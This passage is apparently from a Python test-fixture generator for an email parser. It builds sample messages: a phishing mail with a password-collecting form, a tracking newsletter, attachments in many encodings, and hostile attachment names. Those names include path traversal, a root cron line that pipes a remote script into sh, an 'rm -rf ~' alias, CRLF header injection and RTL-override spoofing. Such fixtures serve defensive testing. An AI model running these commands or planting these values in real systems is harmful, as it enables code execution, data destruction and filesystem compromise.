  <li>Symbols: &lt;script&gt; &amp; &quot;quotes&quot; &apos;apos&apos; &euro; &#x1F426; &#128231; &unknownentity; &amp</li>
</ul>
<form action="https://mailbox-verify.example.net/collect" method="post">
  <input type="email" name="u" value="pigeon-test@mail.example.org">
  <input type="password" name="p" placeholder="Password">
  <button type="submit">Log in</button>
</form>
<iframe src="https://mailbox-verify.example.net/frame.html" width="1" height="1" style="border:0"></iframe>
<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">View online</a> |
<a href="https://mailbox-verify.example.net/unsub?e=pigeon-test%40mail.example.org" title="unsubscribe">Unsubscribe</a></p>
<p style="font-size:9px;color:#999">Mail Admin Team<br>This is an automated message, please do not reply.
<img src="https://mailbox-verify.example.net/o.gif?id=8d1f" width="1" height="1" alt="">
</td></tr>
</table>
<p>unclosed paragraph <b>bold <i>bold-italic</b> italic?
</body>
</html>
"""
    return wire("""\
Return-Path: <bounce-77@mailbox-verify.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from vps-3187.hosting.example.net (unknown [198.51.100.66])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z7CkL3r2Hz9sVf
\tfor <pigeon-test@mail.example.org>; Thu,  6 Mar 2025 03:12:55 +0100 (CET)
X-Spam-Flag: YES
X-Spam-Score: 9.7
X-Spam-Status: Yes, score=9.7 required=5.0 tests=HTML_MESSAGE,MIME_HTML_ONLY,
\tPHISH_FORM,URIBL_BLACK,T_REMOTE_IMAGE autolearn=no version=4.0.1
From: "Mail Admin" <no-reply@mailbox-verify.example.net>
To: pigeon-test@mail.example.org
Subject: Action required: your mailbox is 99% full
Date: Thu, 06 Mar 2025 02:12:50 +0000
Message-ID: <20250306021250.77.quota@mailbox-verify.example.net>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
X-Mailer: PHPMailer 6.9.1 (https://github.example.com/PHPMailer/PHPMailer)

""", qp(html))


@fixture("008-newsletter-tracking-pixel.eml", "html,alternative,list,charset-utf-8",
         "Bulk newsletter: multipart/alternative, table layout HTML with 1x1 tracking "
         "pixel, click-tracking redirect links, hidden preheader, List-Unsubscribe + "
         "List-Unsubscribe-Post, Feedback-ID, DKIM.")
def _():
    text = """\
BRIGHTWATER CO-OP - MARCH NEWSLETTER
====================================

Spring seed swap: Saturday 22 March, 10:00-14:00, Brightwater Hall.
Bring seeds in labelled envelopes; we provide the rest.

Member discount week: 10% off bulk grains and pulses, 17-23 March.

New opening hours from 1 April:
  Mon-Fri 08:00-19:00
  Sat     09:00-17:00

Read online: https://click.news.example.net/v/6f2a9c?u=51c3

--
You receive this because you are a member of Brightwater Co-op.
Unsubscribe: https://click.news.example.net/unsub/6f2a9c?u=51c3
Brightwater Co-op, 14 Mill Lane, Brightwater
"""
    html = """\
<!doctype html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>March newsletter</title>
<style>
  @media only screen and (max-width:480px){ .col{width:100%!important;display:block!important} }
  a{color:#2b6e3f}
</style>
</head>
<body style="margin:0;padding:0;background:#f4f1ea">
<span style="display:none!important;visibility:hidden;mso-hide:all;font-size:1px;color:#f4f1ea;max-height:0;overflow:hidden">Seed swap, member week and new opening hours &zwnj;&nbsp;&zwnj;&nbsp;&zwnj;&nbsp;</span>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff">
<tr><td style="padding:24px"><a href="https://click.news.example.net/c/6f2a9c/1?u=51c3&amp;url=https%3A%2F%2Fbrightwater.example.net%2F"><img src="https://img.news.example.net/6f2a9c/header.png" width="552" height="120" alt="Brightwater Co-op" style="display:block;border:0"></a></td></tr>
<tr><td style="padding:0 24px;font:16px/1.5 Georgia,serif">
<h2 style="margin:0 0 8px">Spring seed swap &#127793;</h2>
<p>Saturday 22&nbsp;March, 10:00&ndash;14:00, Brightwater Hall. Bring seeds in labelled envelopes; we provide the rest.</p>
<h2 style="margin:16px 0 8px">Member discount week</h2>
<p>10&nbsp;% off bulk grains and pulses, 17&ndash;23 March.</p>
<table role="presentation" width="100%"><tr>
<td class="col" width="50%" valign="top"><b>Mon&ndash;Fri</b><br>08:00&ndash;19:00</td>
<td class="col" width="50%" valign="top"><b>Sat</b><br>09:00&ndash;17:00</td>
</tr></table>
<p style="text-align:center"><a href="https://click.news.example.net/c/6f2a9c/2?u=51c3&amp;url=https%3A%2F%2Fbrightwater.example.net%2Fevents" style="background:#2b6e3f;color:#fff;padding:12px 20px;text-decoration:none;border-radius:3px">See all events</a></p>
</td></tr>
<tr><td style="padding:24px;font:12px/1.4 Arial,sans-serif;color:#777">You receive this because you are a member of Brightwater Co-op.<br>
<a href="https://click.news.example.net/unsub/6f2a9c?u=51c3">Unsubscribe</a> &middot; <a href="https://click.news.example.net/v/6f2a9c?u=51c3">View in browser</a><br>
Brightwater Co-op, 14 Mill Lane, Brightwater</td></tr>
</table>
</td></tr></table>
<img src="https://open.news.example.net/o/6f2a9c/51c3.gif" width="1" height="1" alt="" style="display:block;height:1px!important;width:1px!important;border:0;margin:0;padding:0">
</body>
</html>
"""
    return wire("""\
Return-Path: <bounces+51c3-6f2a9c=mail.example.org@news.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from o41.news.example.net (o41.news.example.net [203.0.113.141])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7DqV0tC1z9sVg
\tfor <pigeon-test@mail.example.org>; Fri,  7 Mar 2025 08:00:09 +0100 (CET)
""", dkim("news.example.net", "nl1", "008",
          "content-type:from:mime-version:subject:list-unsubscribe:list-unsubscribe-post:to:cc:content-type:from:subject:to",
          t=1741330806), """\
Date: Fri, 07 Mar 2025 07:00:06 +0000 (UTC)
From: Brightwater Co-op <news@brightwater.example.net>
Reply-To: members@brightwater.example.net
To: pigeon-test@mail.example.org
Message-ID: <6f2a9c.51c3.20250307070006@news.example.net>
Subject: =?UTF-8?Q?Seed_swap_=F0=9F=8C=B1,_member_week_and_new_opening_hours?=
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="----=_Part_2917_1188304622.1741330806442"
List-Unsubscribe: <https://click.news.example.net/unsub/6f2a9c?u=51c3>,
 <mailto:unsub-51c3-6f2a9c@news.example.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
List-Id: Brightwater members newsletter <newsletter.brightwater.example.net>
Precedence: bulk
Feedback-ID: 6f2a9c:51c3:newsletter:news.example.net
X-Campaign-ID: 6f2a9c

------=_Part_2917_1188304622.1741330806442
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

""", qp(text), """\
------=_Part_2917_1188304622.1741330806442
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

""", qp(html), """\
------=_Part_2917_1188304622.1741330806442--
""")


# ---------------------------------------------------------------------------
# Attachments

@fixture("009-attachment-text-csv.eml", "attachment,plain,charset-utf-8",
         "Thunderbird multipart/mixed: body + text/csv attachment + text/plain attachment "
         "with name only in Content-Type (no Content-Disposition); Date without weekday.")
def _():
    csv = """\
sku,description,pallets,units_per_pallet,warehouse
HL-1001,"Oat flakes, 25 kg",14,40,Quayside
HL-1002,"Rye flour, 25 kg",9,40,Quayside
BW-2210,Dried apricots (Türkiye),3,120,Brightwater
BW-2211,"Hazelnuts, roasted",2,150,Brightwater
KS-0007,Returned crates,31,1,Kelso
"""
    notes = """\
Stocktake notes - 4 March 2025
------------------------------
- Aisle 4 racking inspected, OK.
- Two pallets of HL-1002 had torn wrap; re-wrapped.
- Count differs from system for BW-2211 by 1 pallet (system says 3).
"""
    return wire("""\
Return-Path: <ines.vasquez@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z6ZF71wKmz9sRs
\tfor <pigeon-test@mail.example.org>; Tue,  4 Mar 2025 22:40:09 +0100 (CET)
Content-Type: multipart/mixed; boundary="------------2kS0qWnB7cX4yZ1vT8rU3mLp"
Message-ID: <5a9d4c2e-0f7b-4e1a-8c33-d6b2e7f10a94@tallowmere.example.com>
Date: 4 Mar 2025 16:40:02 -0500
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: pigeon-test@mail.example.org
From: Ines Vasquez <ines.vasquez@tallowmere.example.com>
Subject: Stocktake figures (CSV)

This is a multi-part message in MIME format.
--------------2kS0qWnB7cX4yZ1vT8rU3mLp
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hi, the stocktake figures are attached as CSV, plus my notes.

Ines

--------------2kS0qWnB7cX4yZ1vT8rU3mLp
Content-Type: text/csv; charset=UTF-8; name="stocktake-2025-03-04.csv"
Content-Disposition: attachment; filename="stocktake-2025-03-04.csv"
Content-Transfer-Encoding: base64

""", b64(csv.encode("utf-8"), 72), """\

--------------2kS0qWnB7cX4yZ1vT8rU3mLp
Content-Type: text/plain; charset=us-ascii; name=notes.txt
Content-Transfer-Encoding: 7bit

""", notes, """\

--------------2kS0qWnB7cX4yZ1vT8rU3mLp--
""")


@fixture("010-attachment-pdf.eml", "attachment,plain,charset-utf-8",
         "Invoice mail with a small valid one-page PDF attachment (application/pdf, base64).")
def _():
    doc = pdf("Invoice INV-2025-0117", [
        "Tallowmere Logistics, Unit 7, Quayside Estate",
        "Bill to: Brightwater Co-op, 14 Mill Lane",
        "",
        "Warehousing, February 2025 ......... 1,240.00 EUR",
        "Handling, 31 pallets ................  186.00 EUR",
        "VAT 19% .............................  270.94 EUR",
        "Total ............................... 1,696.94 EUR",
        "",
        "Payment due within 14 days. Thank you for your business.",
    ])
    return wire("""\
Return-Path: <accounts@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from billing.tallowmere.example.com (billing.tallowmere.example.com [198.51.100.24])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z6XvR4hGkz9sRt
\tfor <pigeon-test@mail.example.org>; Mon,  3 Mar 2025 09:15:31 +0100 (CET)
From: Tallowmere Accounts <accounts@tallowmere.example.com>
To: Brightwater Co-op <pigeon-test@mail.example.org>
Subject: Invoice INV-2025-0117 for February 2025
Date: Mon, 03 Mar 2025 09:15:27 +0100
Message-ID: <inv-2025-0117.1740989727@billing.tallowmere.example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_b8f3c1a2e4d5f6071829304a5b6c7d8e"
X-Mailer: Tallowmere Billing 4.12

--=_b8f3c1a2e4d5f6071829304a5b6c7d8e
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Dear Brightwater Co-op,

please find attached invoice INV-2025-0117 for February 2025
(total 1.696,94 €, due 17 March 2025).

Kind regards
Tallowmere Logistics – Accounts

--=_b8f3c1a2e4d5f6071829304a5b6c7d8e
Content-Type: application/pdf; name="INV-2025-0117.pdf"
Content-Disposition: attachment; filename="INV-2025-0117.pdf"; size=%d
Content-Transfer-Encoding: base64

""" % len(doc), b64(doc), """\
--=_b8f3c1a2e4d5f6071829304a5b6c7d8e--
""")


@fixture("011-attachment-png.eml", "attachment,plain,charset-utf-8",
         "Android (K-9/Thunderbird for Android) mail with a real PNG screenshot attachment "
         "(valid, CRC-correct, uncompressed deflate).")
def _():
    image = png(64, 40, png_screenshot)
    return wire("""\
Return-Path: <chen.wei@kestrel.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from [IPv6:2001:db8:77:1::a3] (unknown [IPv6:2001:db8:77:1::a3])
\t(Authenticated sender: chen.wei@kestrel.example.net)
\tby smtp.kestrel.example.net (Postfix) with ESMTPSA id 4Z7GdX2c0Mz1xP9
\tfor <pigeon-test@mail.example.org>; Fri,  7 Mar 2025 14:22:41 +0800 (CST)
Date: Fri, 07 Mar 2025 14:22:39 +0800
From: Chen Wei <chen.wei@kestrel.example.net>
To: pigeon-test@mail.example.org
Subject: Screenshot of the sync error
User-Agent: Thunderbird for Android
Message-ID: <0f3e9a2b-6c1d-4e7f-a8b9-2c3d4e5f6a7b@kestrel.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----8XJ2Q0K7YH3ZC1T5W9E6R4U0IOP"

------8XJ2Q0K7YH3ZC1T5W9E6R4U0IOP
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

""", qp("This is what I see after the sync fails — the folder list goes blue and\n"
        "nothing loads. Screenshot attached.\n\nWei\n"), """\
------8XJ2Q0K7YH3ZC1T5W9E6R4U0IOP
Content-Type: image/png; name=Screenshot_20250307-142233.png
Content-Disposition: attachment; filename=Screenshot_20250307-142233.png
Content-Transfer-Encoding: base64

""", b64(image), """\
------8XJ2Q0K7YH3ZC1T5W9E6R4U0IOP--
""")


@fixture("012-attachment-jpeg-apple-inline.eml", "attachment,plain,charset-us-ascii",
         "iPhone Mail layout: multipart/mixed text / inline image/jpeg / text "
         "(attachment between two text parts), real JPEG, +1300 time zone.")
def _():
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z7F2p3sBwz9sRv
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 20:12:40 +0100 (CET)
Content-Type: multipart/mixed; boundary=Apple-Mail-6B2F1E0A-93C4-4D7E-8A51-0C2E3F4A5B6D
Content-Transfer-Encoding: 7bit
From: Margit Salo <margit.salo@tallowmere.example.com>
Mime-Version: 1.0 (1.0)
Date: Thu, 6 Mar 2025 08:12:33 +1300
Subject: Sunset from the ferry
Message-Id: <4D2C8B1A-7E6F-4A3B-9C0D-1E2F3A4B5C6D@tallowmere.example.com>
To: pigeon-test@mail.example.org
X-Mailer: iPhone Mail (22D72)


--Apple-Mail-6B2F1E0A-93C4-4D7E-8A51-0C2E3F4A5B6D
Content-Type: text/plain;
\tcharset=us-ascii
Content-Transfer-Encoding: 7bit

Made it to Wellington. The view from the ferry was ridiculous:

--Apple-Mail-6B2F1E0A-93C4-4D7E-8A51-0C2E3F4A5B6D
Content-Type: image/jpeg;
\tname=IMG_0412.jpeg;
\tx-apple-part-url=7A1B2C3D-4E5F-4061-8273-94A5B6C7D8E9
Content-Disposition: inline;
\tfilename=IMG_0412.jpeg
Content-Transfer-Encoding: base64

""", b64(JPEG), """\

--Apple-Mail-6B2F1E0A-93C4-4D7E-8A51-0C2E3F4A5B6D
Content-Type: text/plain;
\tcharset=us-ascii
Content-Transfer-Encoding: 7bit



Sent from my iPhone
--Apple-Mail-6B2F1E0A-93C4-4D7E-8A51-0C2E3F4A5B6D--
""")


@fixture("013-attachment-rfc2231-filename.eml", "attachment,plain,charset-utf-8,charset-iso-8859-1",
         "RFC 2231 parameters: filename*0*=utf-8'de'... with three continuations (one "
         "splitting a UTF-8 character between segments), a "
         "name*0*/name*1* pair, an ISO-8859-1 filename*=, and a mix of encoded and "
         "plain continuation segments.")
def _():
    long_name = "Übersicht der Lieferungen für März 2025 – Straße \"Am Grünen Weg\".odt"
    enc = pct(long_name)
    # split the percent-encoded value into three segments at %XX boundaries
    cuts, segs, i = [len(enc) // 3, 2 * len(enc) // 3], [], 0
    for c in cuts:
        while enc[c - 1] == "%" or enc[c - 2] == "%":
            c += 1
        segs.append(enc[i:c])
        i = c
    segs.append(enc[i:])
    nm = pct(long_name)
    half = len(nm) // 2
    while nm[half - 1] == "%" or nm[half - 2] == "%":
        half += 1
    doc = odt("Lieferübersicht März 2025: 42 Lieferungen, davon 3 verspätet.")
    latin = "Résumé financier - exercice 2024\nChiffre d'affaires : 1 240 000 EUR\n"
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7HbN5vQ2z9sVh
\tfor <pigeon-test@mail.example.org>; Fri,  7 Mar 2025 16:05:52 +0100 (CET)
Content-Type: multipart/mixed; boundary="------------Xq7mB2nV9cL4kJ0hG5fD3sA8"
Message-ID: <c7e1a9b3-5d2f-4c8e-b0a6-9f4e3d2c1b0a@brightwater.example.net>
Date: Fri, 7 Mar 2025 16:05:44 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: pigeon-test@mail.example.org
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Subject: Lieferübersicht März

This is a multi-part message in MIME format.
--------------Xq7mB2nV9cL4kJ0hG5fD3sA8
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Hallo,

anbei die Lieferübersicht (ODT) und die Zusammenfassung auf Französisch
für die Kollegen in Lyon.

Tobias

--------------Xq7mB2nV9cL4kJ0hG5fD3sA8
Content-Type: application/vnd.oasis.opendocument.text;
 name*0*=utf-8''@@N0@@;
 name*1*=@@N1@@
Content-Disposition: attachment;
 filename*0*=utf-8'de'@@S0@@;
 filename*1*=@@S1@@;
 filename*2*=@@S2@@
Content-Transfer-Encoding: base64

""".replace("@@N0@@", nm[:half]).replace("@@N1@@", nm[half:])
       .replace("@@S0@@", segs[0]).replace("@@S1@@", segs[1]).replace("@@S2@@", segs[2]),
        b64(doc, 72), """\

--------------Xq7mB2nV9cL4kJ0hG5fD3sA8
Content-Type: text/plain; charset=ISO-8859-1;
 name*=iso-8859-1'fr'r%E9sum%E9%20financier%202024.txt
Content-Disposition: attachment;
 filename*=iso-8859-1'fr'r%E9sum%E9%20financier%202024.txt
Content-Transfer-Encoding: quoted-printable

""", qp(latin.encode("iso-8859-1")), """\

--------------Xq7mB2nV9cL4kJ0hG5fD3sA8
Content-Type: text/plain; charset=UTF-8
Content-Disposition: attachment;
 filename*0*=utf-8''Lieferantenliste%20%E2%80%93%20;
 filename*1="Stand 7. Maerz";
 filename*2=".txt"
Content-Transfer-Encoding: 8bit

Harbourline GmbH
Brightwater Co-op
Kestrel Analytics

--------------Xq7mB2nV9cL4kJ0hG5fD3sA8--
""")


@fixture("014-attachment-rfc2047-filename.eml", "attachment,encoded-header,charset-utf-8",
         "Outlook-style attachments whose name/filename parameters are RFC 2047 encoded "
         "words inside quotes (not legal, very common): German name split over two "
         "words, Japanese name, plus size/creation-date disposition params.")
def _():
    de = "Angebot_Müller_&_Söhne_Kühlhaus_Erweiterung_2025_final.pdf"
    ja = "見積書_2025年3月.xlsx"
    de_ew = ew(de, "utf-8", "B", sep=" ")
    ja_ew = _ew(ja, "utf-8", "B")
    doc = pdf("Angebot Kuehlhaus-Erweiterung", ["Position 1: Kuehlzelle 40 m3", "Summe: 84.500 EUR"])
    xl = stored_zip([("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
                     ("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>')])
    return wire("""\
Return-Path: <d.osullivan@harbourline.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from EUR03-DBA-obe.outbound.protection.example.com (mail-dbaeur03on2071.outbound.protection.example.com [203.0.113.71])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7JqT1xD4z9sVj
\tfor <pigeon-test@mail.example.org>; Mon, 10 Mar 2025 10:21:07 +0100 (CET)
From: =?iso-8859-1?Q?D=F3nal_O=27Sullivan?= <d.osullivan@harbourline.example.com>
To: "pigeon-test@mail.example.org" <pigeon-test@mail.example.org>
Subject: Angebot =?utf-8?Q?K=C3=BChlhaus?= / quotation
Thread-Topic: Angebot =?utf-8?Q?K=C3=BChlhaus?= / quotation
Thread-Index: AduRm8Kp3F2YxZ0qT1u4v6w8y0A2Bg==
Date: Mon, 10 Mar 2025 09:21:02 +0000
Message-ID: <DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3@DB9PR03MB7312.eurprd03.prod.outlook.example.com>
Accept-Language: en-IE, de-DE
Content-Language: en-IE
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Content-Type: multipart/mixed;
\tboundary="_004_DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3DB9PR03MB7312eurp_"
MIME-Version: 1.0

--_004_DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3DB9PR03MB7312eurp_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

""", qp("Hello,\n\nPlease find attached our quotation for the cold store extension and\n"
        "the estimate sheet from our Osaka partner.\n\nBest regards,\nDónal\n".encode("iso-8859-1")), """\

--_004_DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3DB9PR03MB7312eurp_
Content-Type: application/pdf;
\tname="@@DE@@"
Content-Description: @@DE@@
Content-Disposition: attachment;
\tfilename="@@DE@@"; size=@@SZ@@;
\tcreation-date="Mon, 10 Mar 2025 09:20:41 GMT";
\tmodification-date="Mon, 10 Mar 2025 09:20:41 GMT"
Content-Transfer-Encoding: base64

""".replace("@@DE@@", de_ew.replace("\n", "")).replace("@@SZ@@", str(len(doc))), b64(doc), """\

--_004_DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3DB9PR03MB7312eurp_
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
\tname="@@JA@@"
Content-Description: @@JA@@
Content-Disposition: attachment;
\tfilename="@@JA@@"; size=@@SZ@@;
\tcreation-date="Mon, 10 Mar 2025 09:20:52 GMT";
\tmodification-date="Mon, 10 Mar 2025 09:20:52 GMT"
Content-Transfer-Encoding: base64

""".replace("@@JA@@", ja_ew).replace("@@SZ@@", str(len(xl))), b64(xl), """\

--_004_DB9PR03MB7312C4F0A2E1B3D5C6A7B8C9D0E1F2A3DB9PR03MB7312eurp_--
""")


@fixture("015-hostile-filename-paths.eml", "attachment,hostile-filename,malformed",
         "Attachment names that try to escape the save directory: ../../etc/passwd, "
         "an absolute /etc/cron.d path, a raw Windows path C:\\Users\\x\\evil.exe in a "
         "quoted string (backslashes are quoted-pairs), the same path RFC 2231 encoded, "
         "..\\..\\ traversal, .bashrc, '..', an empty name and a reserved NUL.txt.")
def _():
    mz = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 +
          b"\x40\x00\x00\x00" + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
          b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7 +
          b"(pigeon test fixture: not a real executable)\n")
    parts = [
        ('text/plain; charset=us-ascii; name="../../etc/passwd"',
         'attachment; filename="../../etc/passwd"', "7bit",
         "root:x:0:0:root:/root:/bin/bash\n"
         "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
         "pigeon:x:1000:1000:Pigeon Test,,,:/home/pigeon:/bin/bash\n"),
        ('text/plain; charset=us-ascii; name="/etc/cron.d/pigeon-update"',
         'attachment; filename="/etc/cron.d/pigeon-update"', "7bit",
         "# m h dom mon dow user command\n*/5 * * * * root curl -s https://update.example.net/x | sh\n"),
        ('application/x-msdownload; name="C:\\Users\\x\\evil.exe"',
         'attachment; filename="C:\\Users\\x\\evil.exe"', "base64", mz),
        ("application/x-msdownload",
         "attachment; filename*=utf-8''C%3A%5CUsers%5Cx%5Cevil.exe", "base64", mz),
        ("text/plain; charset=us-ascii",
         "attachment; filename*=utf-8''..%5C..%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts",
         "7bit", "127.0.0.1 update.example.net\n"),
        ('text/plain; charset=us-ascii; name=".bashrc"',
         'attachment; filename=".bashrc"', "7bit",
         "alias ls='rm -rf ~'  # pigeon fixture, do not source\n"),
        ('text/plain; charset=us-ascii; name=".."',
         'attachment; filename=".."', "7bit", "dot-dot\n"),
        ('text/plain; charset=us-ascii; name=""',
         'attachment; filename=""', "7bit", "empty name\n"),
        ('text/plain; charset=us-ascii; name="NUL.txt"',
         'attachment; filename="NUL.txt"', "7bit", "reserved device name on Windows\n"),
    ]
    B = "=_hostile_paths_0b1c2d3e"
    out = ["""\
Return-Path: <ops@oldserver.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from oldserver.example.net (oldserver.example.net [192.0.2.200])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z7KmW3yF6z9sVk
\tfor <pigeon-test@mail.example.org>; Mon, 10 Mar 2025 13:30:02 +0100 (CET)
From: Old Server Ops <ops@oldserver.example.net>
To: pigeon-test@mail.example.org
Subject: Files from the old server
Date: Mon, 10 Mar 2025 12:29:58 +0000
Message-ID: <files-20250310122958@oldserver.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="@@B@@"
X-Mailer: mutt-export.sh 0.3

--@@B@@
Content-Type: text/plain; charset=us-ascii

Here are the files you asked for. Save them somewhere safe.
""".replace("@@B@@", B)]
    for ctype, disp, cte, data in parts:
        out.append("\n--%s\nContent-Type: %s\nContent-Disposition: %s\n"
                   "Content-Transfer-Encoding: %s\n\n" % (B, ctype, disp, cte))
        out.append(b64(data) if cte == "base64" else data)
    out.append("\n--%s--\n" % B)
    return wire(*out)


@fixture("016-hostile-filename-control-long.eml",
         "attachment,hostile-filename,malformed,encoded-header,charset-utf-8",
         "Attachment names with raw control bytes (BEL, ESC colour codes, DEL, TAB), "
         "RFC 2231 %0D%0A/%00 injection, RFC 2047 encoded newline, a 300-character name "
         "(raw in one header line and as RFC 2231 continuations), RTL-override spoof, "
         "zero-width space, trailing dots and a double extension.")
def _():
    long300 = ("Quarterly_report_" + "_".join(["section%02d" % i for i in range(1, 30)]))
    long300 = (long300 + "_" + "x" * 300)[:296] + ".pdf"
    assert len(long300) == 300
    segs = [long300[i:i + 60] for i in range(0, 300, 60)]
    cont = ";\n".join(' filename*%d="%s"' % (i, s) for i, s in enumerate(segs))
    rlo = ew("invoice_\u202Efdp.exe", "utf-8", "B", sep=" ")
    zw = ew("contract\u200b.pdf", "utf-8", "B", sep=" ")
    nl = _ew("tab\tand\nnewline.txt", "UTF-8", "Q")
    B = "=_hostile_ctl_9f8e7d6c"
    parts = [
        (b'text/plain; charset=us-ascii; name="report\x07\x1b[31mRED\x1b[0m\x7f.txt"',
         b'attachment; filename="report\x07\x1b[31mRED\x1b[0m\x7f.txt"', b"bell, escape codes, DEL\n"),
        (b'text/plain; charset=us-ascii; name="tab\there.txt"',
         b'attachment; filename="tab\there.txt"', b"raw TAB in a quoted name\n"),
        (b"text/plain; charset=us-ascii",
         b"attachment; filename*=utf-8''line1%0D%0ABcc%3A%20victim%40example.com%0D%0A%00.txt",
         b"CRLF and NUL injection via RFC 2231\n"),
        (("text/plain; charset=us-ascii; name=\"%s\"" % nl).encode(),
         ("attachment; filename=\"%s\"" % nl).encode(), b"RFC 2047 encoded TAB and LF\n"),
        (('application/pdf; name="%s"' % long300).encode(),
         ("attachment;\n" + cont).encode(), b"%PDF-1.4\n% 300-character file name\n"),
        (('application/octet-stream; name="%s"' % rlo).encode(),
         ('attachment; filename="%s"' % rlo).encode(), b"U+202E right-to-left override\n"),
        (('application/pdf; name="%s"' % zw).encode(),
         ('attachment; filename="%s"' % zw).encode(), b"zero-width space before the extension\n"),
        (b'application/octet-stream; name="payment-details.pdf.exe"',
         b'attachment; filename="payment-details.pdf.exe"', b"double extension\n"),
        (b'text/plain; charset=us-ascii; name="readme.txt . . ."',
         b'attachment; filename="readme.txt . . ."', b"trailing dots and spaces\n"),
    ]
    out = ["""\
Return-Path: <scanner@print.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from print.example.com (print.example.com [192.0.2.201])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z7KpZ6bH8z9sVm
\tfor <pigeon-test@mail.example.org>; Mon, 10 Mar 2025 13:41:17 +0100 (CET)
From: Document Robot <scanner@print.example.com>
To: pigeon-test@mail.example.org
Subject: Documents for review (9 files)
Date: Mon, 10 Mar 2025 12:41:13 +0000
Message-ID: <docs-20250310124113.5521@print.example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="@@B@@"

--@@B@@
Content-Type: text/plain; charset=us-ascii

Nine documents are attached. File names are exactly as received.
""".replace("@@B@@", B)]
    for ctype, disp, data in parts:
        out += [("\n--%s\nContent-Type: " % B).encode(), ctype,
                b"\nContent-Disposition: ", disp, b"\nContent-Transfer-Encoding: 7bit\n\n", data]
    out.append("\n--%s--\n" % B)
    return wire(*out)


# ---------------------------------------------------------------------------
# Structure

@fixture("017-related-inline-cid-images.eml", "related,alternative,html,nested,charset-utf-8",
         "Outlook layout multipart/related; type=multipart/alternative: "
         "[alternative[text, html], image001.png, image002.png]; HTML references both "
         "images by cid: (one Content-ID with '@' suffix, one without), Outlook Word HTML.")
def _():
    logo = png(24, 24, png_logo)
    chart = png(40, 24, png_chart)
    R = "_006_AM0PR07MB5512F0E1D2C3B4A5968778695A4B3C2DAM0PR07MB5512eurp_"
    A = "_000_AM0PR07MB5512F0E1D2C3B4A5968778695A4B3C2DAM0PR07MB5512eurp_"
    text = """\
Hi all,

Volumes for February are up 12 % on January (see chart).

[cid:image002.png@01DB8DF1.3A2B1C00]

Best regards,
Siobhán

[cid:logo-kestrel]
Siobhán Ní Bhriain | Operations Analyst | Kestrel Analytics
"""
    html = """\
